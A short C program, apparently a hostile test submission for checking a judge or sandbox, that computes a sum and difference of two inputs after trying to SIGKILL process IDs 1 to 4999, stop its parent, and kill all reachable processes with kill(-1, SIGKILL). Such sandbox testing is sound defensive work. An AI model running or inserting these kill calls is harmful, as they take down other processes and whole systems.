/* Tries to end whatever it can reach, then answers. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int a, b;
    scanf("%d %d", &a, &b);
    for (int pid = 1; pid < 5000; pid++) {
        if (pid != getpid()) kill(pid, SIGKILL);
    }
    kill(getppid(), SIGSTOP);
    kill(-1, SIGKILL);
    printf("%d %d\n", a + b, a - b);
    return 0;
}
